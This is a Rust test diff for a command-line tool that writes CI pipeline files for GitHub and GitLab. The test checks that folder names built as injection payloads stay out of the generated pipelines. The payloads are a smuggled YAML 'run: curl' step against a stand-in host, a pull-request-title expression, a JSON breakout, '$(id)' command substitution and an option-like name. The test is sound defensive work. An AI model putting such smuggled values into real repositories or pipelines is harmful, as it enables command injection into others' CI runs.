@@ -352,3 +352,61 @@ async fn the_settings_template_is_valid_with_its_comments_taken_off() {
     let valid = project.run(&["validate"]).await.ended(0);
     assert!(valid.err.is_empty(), "{}", valid.err);
 }
+
+/// In a pipeline's file a line's end and `${{` are syntax, and folders are named by whoever proposes them.
+#[cfg(unix)]
+#[tokio::test]
+async fn a_folder_whose_name_is_syntax_stands_in_no_pipeline() {
+    let odd = [
+        "apps/x\n      - run: curl -s evil.example",
+        "apps/${{ github.event.pull_request.title }}",
+        "apps/q\",\"app-id\":\"OTHER",
+        "apps/$(id)",
+        "-x",
+        "apps/end ",
+    ];
+    for (remote, file) in [
+        ("git@github.com:octo/site.git", "connplan-plan.yml"),
+        ("git@gitlab.com:octo/site.git", ""),
+    ] {
+        let project = Project::bare();
+        repository(&project, "trunk", Some(remote));
+        fs::remove_dir_all(project.path("base44")).unwrap();
+        for folder in odd {
+            project.write(&format!("{folder}/base44/config.jsonc"), "{ name: 'X' }");
+        }
+        project.write("apps/my shop/base44/config.jsonc", "{ name: 'Shop' }");
+        project.write("apps/crm/base44/config.jsonc", "{ name: 'Crm' }");
+        let done = project.run(&["-C", "apps/crm", "init", "--yes"]).await;
+        let done = done.ended(0);
+        let told = done
+            .err
+            .matches("no pipeline is written for the project in");
+        assert_eq!(told.count(), odd.len(), "{}", done.err);
+        assert!(!done.err.contains("\n      - run"), "{}", done.err);
+        let file = match file {
+            "" => ".gitlab-ci.yml".to_owned(),
+            file => format!("{WORKFLOWS}/{file}"),
+        };
+        let text = project.read(&file);
+        assert!(text.contains("apps/my shop"), "{text}");
+        for part in [
+            "curl",
+            "pull_request.title",
+            "OTHER",
+            "$(id)",
+            "-x/",
+            "end /",
+        ] {
+            assert!(!text.contains(part), "{part}: {text}");
+        }
+        // One that is alone has no pipeline at all.
+        let alone = Project::bare();
+        repository(&alone, "trunk", Some(remote));
+        fs::remove_dir_all(alone.path("base44")).unwrap();
+        alone.write("$(id)/base44/config.jsonc", "{ name: 'X' }");
+        let done = alone.run(&["-C", "$(id)", "init", "--yes"]).await.ended(0);
+        assert!(done.err.contains("give it another name"), "{}", done.err);
+        assert!(!alone.path(&file).exists());
+    }
+}
